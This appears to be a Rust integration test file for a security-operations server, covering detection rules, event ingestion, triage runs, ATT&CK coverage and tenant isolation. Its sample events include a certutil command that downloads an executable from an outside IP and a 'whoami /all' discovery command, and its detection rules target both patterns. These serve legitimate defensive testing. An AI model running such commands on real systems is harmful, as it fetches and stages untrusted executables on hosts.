//! Detections through the server, on both backends: rules uploaded (linted, status-gated, authors kept),
//! events ingested as JSON and NDJSON with log-source routing, detections for the right organisation only,
//! a triage run started by a detection trigger and linked to it, the triage workflow, coverage and its
//! Navigator layer, correlations across requests, and bad input refused without storing anything.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

mod support;

use support::Server;

use std::sync::Arc;
use std::time::Duration;

use axum::http::{Method, StatusCode};
use secops_core::model::{ModelProvider, ScriptedProvider, ScriptedTurn};
use serde_json::{Value, json};

const WHOAMI: &str = r"title: Whoami Run From A Shell
id: 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d01
status: test
description: whoami.exe started, as attackers do right after landing on a host.
author: Secops Server Tests
date: 2026-11-29
tags:
    - attack.discovery
    - attack.t1033
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\whoami.exe'
    condition: selection
level: high
";

const EXPERIMENTAL: &str = r"title: Certutil Download
id: 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d02
status: experimental
description: certutil fetching a URL.
author: Secops Server Tests
date: 2026-11-29
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\certutil.exe'
        CommandLine|contains: 'urlcache'
    condition: selection
level: medium
";

const FAILED_LOGON: &str = r"title: Failed Logon
id: 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d03
name: server_test_failed_logon
status: test
description: An account failed to log on.
author: Secops Server Tests
date: 2026-11-29
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection
level: low
";

const BRUTE_FORCE: &str = r"title: Repeated Failed Logons For One Account
id: 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d04
status: test
description: Three failed logons for one account within ten minutes.
author: Secops Server Tests
date: 2026-11-29
tags:
    - attack.credential-access
    - attack.t1110
correlation:
    type: event_count
    rules:
        - server_test_failed_logon
    group-by:
        - TargetUserName
    timespan: 10m
    condition:
        gte: 3
level: high
";

/// A Sysmon process creation (event ID 1) as a flattened Windows event log record.
fn process(image: &str, command_line: &str, at: &str) -> Value {
    json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws-042.example.test",
        "TimeCreated": at, "Image": image, "CommandLine": command_line, "User": "EXAMPLE\\alice"})
}

fn failed_logon(user: &str, at: &str) -> Value {
    json!({"EventID": 4625, "Channel": "Security", "Computer": "dc-01.example.test", "TimeCreated": at,
        "TargetUserName": user, "IpAddress": "203.0.113.10", "LogonType": 3})
}

async fn server(postgres: bool, provider: Arc<dyn ModelProvider>) -> Server {
    Server::start(postgres, &[], Some(provider)).await
}

impl Server {
    async fn upload(&self, token: &str, yaml: &str) -> Value {
        let (s, body) = self
            .call(
                Method::POST,
                "/v1/detection-rules",
                token,
                Some(json!({"yaml": yaml})),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{body}");
        body
    }

    async fn ingest_ndjson(&self, token: &str, events: &[Value]) -> (StatusCode, Value) {
        let body: String = events.iter().map(|e| format!("{e}\n")).collect();
        self.send(
            Method::POST,
            "/v1/events",
            token,
            Some(("application/x-ndjson", body.into_bytes())),
        )
        .await
    }

    async fn detections(&self, token: &str) -> Vec<Value> {
        let (s, page) = self
            .call(Method::GET, "/v1/detections?limit=200", token, None)
            .await;
        assert_eq!(s, StatusCode::OK, "{page}");
        page["items"].as_array().unwrap().clone()
    }
}

#[tokio::test]
async fn rules_events_detections_triage_coverage_and_tenancy() {
    let provider: Arc<dyn ModelProvider> = Arc::new(
        ScriptedProvider::new(vec![ScriptedTurn::text(
            "True positive: whoami right after an interactive logon on ws-042.",
        )])
        .cycled(),
    );
    for postgres in [false, true] {
        let srv = server(postgres, Arc::clone(&provider)).await;
        let blue = srv.owner("Blue").await;

        // Upload: stable/test rules run by default, experimental ones wait to be enabled.
        let whoami = srv.upload(&blue, WHOAMI).await;
        assert_eq!(whoami["rule"]["enabled"], true);
        assert_eq!(whoami["rule"]["author"], "Secops Server Tests");
        assert_eq!(
            whoami["rule"]["tags"],
            json!(["attack.discovery", "attack.t1033"])
        );
        let experimental = srv.upload(&blue, EXPERIMENTAL).await;
        assert_eq!(experimental["rule"]["enabled"], false, "{experimental}");
        let (s, dup) = srv
            .call(
                Method::POST,
                "/v1/detection-rules",
                &blue,
                Some(json!({"yaml": WHOAMI})),
            )
            .await;
        assert_eq!(
            (s, dup["code"].as_str()),
            (StatusCode::CONFLICT, Some("already_exists")),
            "{dup}"
        );
        let broken = WHOAMI
            .replace("condition: selection", "condition: selection and nonexistent")
            .replace("9d01", "9d99");
        let (s, problem) = srv
            .call(
                Method::POST,
                "/v1/detection-rules",
                &blue,
                Some(json!({"yaml": broken})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_rule")),
            "{problem}"
        );
        assert!(
            problem["detail"].as_str().unwrap().contains("line "),
            "line and column: {problem}"
        );
        let (s, problem) = srv
            .call(
                Method::POST,
                "/v1/detection-rules",
                &blue,
                Some(json!({"yaml": "title: [unclosed"})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_rule")),
            "{problem}"
        );

        // A triage agent starts on high detections.
        let (s, agent) = srv
            .call(
                Method::POST,
                "/v1/agents",
                &blue,
                Some(json!({"name": "triage", "system_prompt": "Triage detections."})),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{agent}");
        let agent_id = agent["id"].as_str().unwrap().to_owned();
        let (s, trigger) = srv
            .call(
                Method::POST,
                &format!("/v1/agents/{agent_id}/triggers"),
                &blue,
                Some(json!({"kind": "detection", "min_level": "high"})),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{trigger}");
        let (s, problem) = srv
            .call(
                Method::POST,
                &format!("/v1/agents/{agent_id}/triggers"),
                &blue,
                Some(json!({"kind": "schedule"})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("unsupported_trigger"))
        );

        // Bad input is refused and stores nothing.
        let (s, problem) = srv
            .send(
                Method::POST,
                "/v1/events",
                &blue,
                Some(("text/plain", b"hello".to_vec())),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNSUPPORTED_MEDIA_TYPE, Some("unsupported_media_type"))
        );
        let half = format!(
            "{}\n{{\"EventID\": 1, \"Image\": ",
            process(
                "C:\\Windows\\System32\\whoami.exe",
                "whoami",
                "2026-11-29T08:00:00Z"
            )
        );
        let (s, problem) = srv
            .send(
                Method::POST,
                "/v1/events",
                &blue,
                Some(("application/x-ndjson", half.into_bytes())),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::BAD_REQUEST, Some("malformed_events")),
            "{problem}"
        );
        assert!(
            problem["detail"].as_str().unwrap().starts_with("line 2"),
            "{problem}"
        );
        let (s, problem) = srv
            .send(
                Method::POST,
                "/v1/events",
                &blue,
                Some(("application/json", b"[1, 2]".to_vec())),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::BAD_REQUEST, Some("malformed_events"))
        );
        assert!(
            srv.detections(&blue).await.is_empty(),
            "nothing stored from bad input"
        );

        // Ingest: the process creation fires; the certutil rule is disabled; the logon is routed away from
        // process-creation rules.
        let (s, report) = srv
            .ingest_ndjson(&blue, &[
                process("C:\\Windows\\System32\\whoami.exe", "whoami /all", "2026-11-29T08:00:00Z"),
                process("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -f http://203.0.113.9/a.exe", "2026-11-29T08:00:05Z"),
                process("C:\\Windows\\explorer.exe", "explorer.exe", "2026-11-29T08:00:06Z"),
                json!({"EventID": 4624, "Channel": "Security", "TimeCreated": "2026-11-29T08:00:07Z", "Image": "C:\\Windows\\System32\\whoami.exe"}),
            ])
            .await;
        assert_eq!(s, StatusCode::OK, "{report}");
        assert_eq!(report["events"], 4);
        let found = report["detections"].as_array().unwrap();
        assert_eq!(found.len(), 1, "{report}");
        assert_eq!(found[0]["title"], "Whoami Run From A Shell");
        assert_eq!(found[0]["level"], "high");
        assert_eq!(found[0]["status"], "new");
        assert_eq!(
            found[0]["rule"]["author"], "Secops Server Tests",
            "authors shown with the detection"
        );
        assert_eq!(
            found[0]["rule"]["rule_uid"],
            "7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d01"
        );
        assert_eq!(found[0]["event"]["Image"], "C:\\Windows\\System32\\whoami.exe");
        let detection_id = found[0]["id"].as_str().unwrap().to_owned();

        // The trigger started a triage run with the detection as its input, linked to the detection.
        let mut linked = Value::Null;
        for _ in 0..200 {
            let (_, d) = srv
                .call(
                    Method::GET,
                    &format!("/v1/detections/{detection_id}"),
                    &blue,
                    None,
                )
                .await;
            if d["run_id"].is_string() {
                linked = d;
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        let run_id = linked["run_id"]
            .as_str()
            .expect("a triage run is linked")
            .to_owned();
        let mut run = Value::Null;
        for _ in 0..200 {
            let (_, r) = srv
                .call(Method::GET, &format!("/v1/runs/{run_id}"), &blue, None)
                .await;
            if r["status"] == "finished" {
                run = r;
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        assert_eq!(run["trigger"], "detection", "{run}");
        assert_eq!(run["agent_id"], agent_id.as_str());
        assert!(
            run["output"]["text"]
                .as_str()
                .unwrap()
                .starts_with("True positive"),
            "{run}"
        );

        // The triage workflow: transitions are checked, assignees must be members, notes accumulate.
        let (_, me) = srv.call(Method::GET, "/v1/me", &blue, None).await;
        let version = linked["version"].as_i64().unwrap();
        let path = format!("/v1/detections/{detection_id}");
        let (s, problem) = srv
            .call(
                Method::PATCH,
                &path,
                &blue,
                Some(json!({"version": version, "status": "true_positive"})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::CONFLICT, Some("invalid_transition")),
            "{problem}"
        );
        let (s, d) = srv
            .call(Method::PATCH, &path, &blue, Some(json!({"version": version, "status": "triaging", "assignee_id": me["user_id"], "note": "Looking at ws-042."})))
            .await;
        assert_eq!(s, StatusCode::OK, "{d}");
        assert_eq!(
            (d["status"].as_str(), &d["assignee_id"]),
            (Some("triaging"), &me["user_id"])
        );
        let (s, d) = srv
            .call(Method::PATCH, &path, &blue, Some(json!({"version": d["version"], "status": "true_positive", "note": "Confirmed with the user."})))
            .await;
        assert_eq!(s, StatusCode::OK, "{d}");
        assert_eq!(d["notes"].as_array().unwrap().len(), 2);
        let (s, problem) = srv
            .call(
                Method::PATCH,
                &path,
                &blue,
                Some(json!({"version": d["version"], "assignee_id": uuid::Uuid::now_v7()})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_assignee"))
        );
        let (_, filtered) = srv
            .call(
                Method::GET,
                "/v1/detections?status=true_positive&level=high",
                &blue,
                None,
            )
            .await;
        assert_eq!(filtered["items"].as_array().unwrap().len(), 1);
        let (_, none) = srv
            .call(Method::GET, "/v1/detections?status=closed", &blue, None)
            .await;
        assert_eq!(none["items"], json!([]));
        // A time range: the detection was raised in the last hour, and not after it.
        let hour_ago = (chrono::Utc::now() - chrono::Duration::hours(1))
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
        let later = (chrono::Utc::now() + chrono::Duration::hours(1))
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
        let (s, recent) = srv
            .call(
                Method::GET,
                &format!("/v1/detections?since={hour_ago}&until={later}&level=high"),
                &blue,
                None,
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{recent}");
        assert_eq!(recent["items"].as_array().unwrap().len(), 1, "{recent}");
        let (_, future) = srv
            .call(Method::GET, &format!("/v1/detections?since={later}"), &blue, None)
            .await;
        assert_eq!(future["items"], json!([]), "{future}");

        // Coverage of the enabled rules, and its Navigator layer.
        let (s, cov) = srv.call(Method::GET, "/v1/coverage", &blue, None).await;
        assert_eq!(s, StatusCode::OK, "{cov}");
        assert_eq!(
            cov["techniques"]["T1033"]["rules"][0]["title"], "Whoami Run From A Shell",
            "{cov}"
        );
        assert!(
            cov["techniques"].get("T1105").is_none(),
            "disabled rules do not count: {cov}"
        );
        let (_, layer) = srv.call(Method::GET, "/v1/coverage/navigator", &blue, None).await;
        assert!(
            layer["versions"]["layer"].as_str().unwrap().starts_with("4."),
            "{layer}"
        );
        assert_eq!(layer["domain"], "enterprise-attack");
        let ids: Vec<&str> = layer["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["techniqueID"].as_str().unwrap())
            .collect();
        assert!(ids.contains(&"T1033"), "{layer}");

        // Enabling the experimental rule makes it run.
        let exp_id = experimental["rule"]["id"].as_str().unwrap();
        let (s, enabled) = srv
            .call(
                Method::PATCH,
                &format!("/v1/detection-rules/{exp_id}"),
                &blue,
                Some(json!({"version": experimental["rule"]["version"], "enabled": true})),
            )
            .await;
        assert_eq!(
            (s, enabled["enabled"].as_bool()),
            (StatusCode::OK, Some(true)),
            "{enabled}"
        );
        let (_, report) = srv
            .call(
                Method::POST,
                "/v1/events",
                &blue,
                Some(process(
                    "C:\\Windows\\System32\\certutil.exe",
                    "certutil -urlcache -f http://203.0.113.9/a.exe",
                    "2026-11-29T08:01:00Z",
                )),
            )
            .await;
        assert_eq!(report["detections"][0]["title"], "Certutil Download", "{report}");

        // Another organisation sees none of it, and its events do not fire Blue's rules.
        let red = srv.owner("Red").await;
        assert!(srv.detections(&red).await.is_empty());
        for path in [
            format!("/v1/detections/{detection_id}"),
            format!("/v1/detection-rules/{exp_id}"),
            format!("/v1/runs/{run_id}"),
        ] {
            let (s, _) = srv.call(Method::GET, &path, &red, None).await;
            assert_eq!(s, StatusCode::NOT_FOUND, "{path}");
        }
        let (s, _) = srv
            .call(
                Method::PATCH,
                &format!("/v1/detections/{detection_id}"),
                &red,
                Some(json!({"version": 1, "status": "closed"})),
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (s, _) = srv
            .call(
                Method::PATCH,
                &format!("/v1/detection-rules/{exp_id}"),
                &red,
                Some(json!({"version": 2, "enabled": false})),
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (_, report) = srv
            .ingest_ndjson(
                &red,
                &[process(
                    "C:\\Windows\\System32\\whoami.exe",
                    "whoami",
                    "2026-11-29T08:00:00Z",
                )],
            )
            .await;
        assert_eq!(
            report["detections"],
            json!([]),
            "Blue's rules do not run on Red's events"
        );
        let (_, cov) = srv.call(Method::GET, "/v1/coverage", &red, None).await;
        assert_eq!(cov["rules"], 0, "{cov}");
        assert_eq!(
            srv.detections(&blue).await.len(),
            2,
            "Red's ingest added nothing to Blue"
        );

        // Triggers: Red can neither see nor change Blue's; Blue can disable and delete its own.
        let trigger_id = trigger["id"].as_str().unwrap();
        let (s, _) = srv
            .call(
                Method::GET,
                &format!("/v1/agents/{agent_id}/triggers"),
                &red,
                None,
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (s, _) = srv
            .call(
                Method::POST,
                &format!("/v1/agents/{agent_id}/triggers"),
                &red,
                Some(json!({"kind": "detection"})),
            )
            .await;
        assert_eq!(
            s,
            StatusCode::NOT_FOUND,
            "Red cannot hang a trigger on Blue's agent"
        );
        let (s, _) = srv
            .call(
                Method::PATCH,
                &format!("/v1/triggers/{trigger_id}"),
                &red,
                Some(json!({"version": 1, "enabled": false})),
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (s, _) = srv
            .call(
                Method::DELETE,
                &format!("/v1/triggers/{trigger_id}?version=1"),
                &red,
                None,
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        let (_, listed) = srv
            .call(
                Method::GET,
                &format!("/v1/agents/{agent_id}/triggers"),
                &blue,
                None,
            )
            .await;
        assert_eq!(listed["items"][0]["enabled"], true, "unchanged by Red");
        let (s, off) = srv
            .call(
                Method::PATCH,
                &format!("/v1/triggers/{trigger_id}"),
                &blue,
                Some(json!({"version": trigger["version"], "enabled": false, "min_level": "critical"})),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{off}");
        assert_eq!(
            (off["enabled"].as_bool(), off["spec"]["min_level"].as_str()),
            (Some(false), Some("critical"))
        );
        let (s, _) = srv
            .call(
                Method::DELETE,
                &format!("/v1/triggers/{trigger_id}?version={}", off["version"]),
                &blue,
                None,
            )
            .await;
        assert_eq!(s, StatusCode::NO_CONTENT);
        srv.shutdown().await;
    }
}

#[tokio::test]
async fn a_correlation_fires_across_requests_with_events_out_of_order() {
    let provider: Arc<dyn ModelProvider> =
        Arc::new(ScriptedProvider::new(vec![ScriptedTurn::text("ok")]).cycled());
    for postgres in [false, true] {
        let srv = server(postgres, Arc::clone(&provider)).await;
        let blue = srv.owner("Blue").await;
        srv.upload(&blue, FAILED_LOGON).await;
        let (s, problem) = srv
            .call(
                Method::POST,
                "/v1/detection-rules",
                &blue,
                Some(json!({"yaml": BRUTE_FORCE.replace("server_test_failed_logon", "no_such_rule")})),
            )
            .await;
        assert_eq!(
            (s, problem["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_rule")),
            "a dangling reference: {problem}"
        );
        srv.upload(&blue, BRUTE_FORCE).await;
        // Two failures in one request, the third (earlier in time) in the next.
        let (_, first) = srv
            .ingest_ndjson(
                &blue,
                &[
                    failed_logon("bob", "2026-11-29T08:04:00Z"),
                    failed_logon("bob", "2026-11-29T08:02:00Z"),
                ],
            )
            .await;
        let titles = |r: &Value| -> Vec<String> {
            r["detections"]
                .as_array()
                .unwrap()
                .iter()
                .map(|d| d["title"].as_str().unwrap().to_owned())
                .collect()
        };
        assert!(
            !titles(&first).contains(&"Repeated Failed Logons For One Account".to_owned()),
            "{first}"
        );
        let (_, second) = srv
            .ingest_ndjson(
                &blue,
                &[
                    failed_logon("bob", "2026-11-29T08:00:00Z"),
                    failed_logon("carol", "2026-11-29T08:00:30Z"),
                ],
            )
            .await;
        assert!(
            titles(&second).is_empty(),
            "held back until event time moves on: {second}"
        );
        // Event time moves past the five minutes held back: the three failures for bob count, in time order.
        let (_, third) = srv
            .ingest_ndjson(&blue, &[failed_logon("dave", "2026-11-29T08:10:00Z")])
            .await;
        assert_eq!(
            titles(&third),
            ["Repeated Failed Logons For One Account"],
            "{third}"
        );
        assert_eq!(
            third["detections"][0]["event"]["TargetUserName"], "bob",
            "{third}"
        );
        assert_eq!(third["detections"][0]["level"], "high");
        // A historical upload flushes at its end.
        let erin: String = ["09:00:00", "09:00:10", "09:00:20"]
            .iter()
            .map(|t| format!("{}\n", failed_logon("erin", &format!("2026-11-29T{t}Z"))))
            .collect();
        let (s, flushed) = srv
            .send(
                Method::POST,
                "/v1/events?flush=true",
                &blue,
                Some(("application/x-ndjson", erin.into_bytes())),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{flushed}");
        assert_eq!(
            titles(&flushed),
            ["Repeated Failed Logons For One Account"],
            "{flushed}"
        );
        srv.shutdown().await;
    }
}

const ALICE_IS_EXPECTED: &str = r"title: Alice Runs Whoami In Her Login Script
id: 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d05
status: test
description: Known-good activity, tuned out for this organisation.
author: Secops Server Tests
date: 2026-11-29
logsource:
    category: process_creation
    product: windows
filter:
    rules:
        - 7d1c3e52-1b6a-4a8e-9c11-5a0e2f6b9d01
    selection:
        User: 'EXAMPLE\alice'
    condition: not selection
";

#[tokio::test]
async fn a_filter_tunes_out_known_good_activity_and_can_be_disabled() {
    let provider: Arc<dyn ModelProvider> =
        Arc::new(ScriptedProvider::new(vec![ScriptedTurn::text("ok")]).cycled());
    for postgres in [false, true] {
        let srv = server(postgres, Arc::clone(&provider)).await;
        let blue = srv.owner("Blue").await;
        srv.upload(&blue, WHOAMI).await;
        let filter = srv.upload(&blue, ALICE_IS_EXPECTED).await;
        assert_eq!(filter["rule"]["enabled"], true, "{filter}");
        assert_eq!(filter["rule"]["title"], "Alice Runs Whoami In Her Login Script");
        let mut bob = process(
            "C:\\Windows\\System32\\whoami.exe",
            "whoami",
            "2026-11-29T08:00:01Z",
        );
        bob["User"] = json!("EXAMPLE\\bob");
        let alice = process(
            "C:\\Windows\\System32\\whoami.exe",
            "whoami",
            "2026-11-29T08:00:00Z",
        );
        let (_, report) = srv.ingest_ndjson(&blue, &[alice.clone(), bob]).await;
        let users: Vec<&str> = report["detections"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| d["event"]["User"].as_str().unwrap())
            .collect();
        assert_eq!(users, ["EXAMPLE\\bob"], "alice is tuned out: {report}");
        // Disabling the filter brings alice's detections back.
        let id = filter["rule"]["id"].as_str().unwrap();
        let (s, off) = srv
            .call(
                Method::PATCH,
                &format!("/v1/detection-rules/{id}"),
                &blue,
                Some(json!({"version": filter["rule"]["version"], "enabled": false})),
            )
            .await;
        assert_eq!(s, StatusCode::OK, "{off}");
        let (_, report) = srv.ingest_ndjson(&blue, &[alice]).await;
        assert_eq!(report["detections"].as_array().unwrap().len(), 1, "{report}");
        srv.shutdown().await;
    }
}
